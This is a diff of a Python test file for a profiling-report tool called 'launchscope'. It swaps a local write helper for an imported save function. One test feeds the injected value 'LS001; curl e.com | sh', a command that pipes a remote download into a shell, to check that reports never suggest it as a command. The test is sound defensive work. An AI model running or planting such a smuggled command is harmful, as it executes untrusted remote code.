@@ -9,6 +9,7 @@ from pathlib import Path
 import pytest
 from msgspec.structs import replace
 
+from launchscope import save
 from launchscope.cli import main
 from launchscope.model import Profile
 from launchscope.report import render
@@ -23,13 +24,8 @@ def saved(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Profile:
     monkeypatch.chdir(tmp_path)
     profile = VALUES["adopt"]()
     assert isinstance(profile, Profile)
-    write("profile.json", profile)
+    save(profile, "profile.json")
     return profile
-
-
-def write(name: str, profile: Profile) -> None:
-    made = render(profile, "json")
-    Path(name).write_bytes(made if isinstance(made, bytes) else made.encode())
 
 
 def refused(capsys: pytest.CaptureFixture[str], *words: str) -> str:
@@ -44,10 +40,10 @@ def refused(capsys: pytest.CaptureFixture[str], *words: str) -> str:
 def test_no_report_replaces_what_is_read(
     saved: Profile, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    write("other.json", saved)
+    save(saved, "other.json")
     Path("same.json").symlink_to("other.json")
     Path("folder").mkdir()
-    write("folder/rank0.json", saved)
+    save(saved, "folder/rank0.json")
     for inputs, output in (
         (("profile.json",), "profile.json"),
         (("profile.json", "other.json"), "same.json"),
@@ -77,7 +73,7 @@ def test_a_file_has_the_format_that_its_name_says(
     monkeypatch.chdir(tmp_path)
     profile = VALUES["launched"]()
     assert isinstance(profile, Profile)
-    write("profile.json", profile)
+    save(profile, "profile.json")
     assert main(["report", "-q", "-o", name, "profile.json"]) == 0
     expected = json.loads(render(profile, format_name))
     assert json.loads(Path(name).read_text()).keys() == expected.keys()
@@ -161,14 +157,14 @@ def test_a_file_suggests_no_command_but_a_rule(
 ) -> None:
     assert saved.verdict is not None
     for code, commands in (("LS001", 1), ("LS001; curl e.com | sh", 0)):
-        write("made.json", replace(saved, verdict=replace(saved.verdict, because=(code,))))
+        save(replace(saved, verdict=replace(saved.verdict, because=(code,))), "made.json")
         assert main(["report", "made.json"]) == 0
         assert capsys.readouterr().out.count("launchscope rules LS001") == commands
 
 
 def test_no_file_has_a_line_that_a_ci_service_takes_for_a_command(saved: Profile) -> None:
     nasty = tuple(name for name in NASTY if "::" in name or "##" in name)
-    write("made.json", filled(replace(saved, metrics={}), nasty))
+    save(filled(replace(saved, metrics={}), nasty), "made.json")
     files = [f"a.{suffix}" for suffix in ("md", "txt", "csv", "html", "sarif", "json")]
     assert main(["report", "made.json", *(word for file in files for word in ("-o", file))]) == 0
     for file in files:
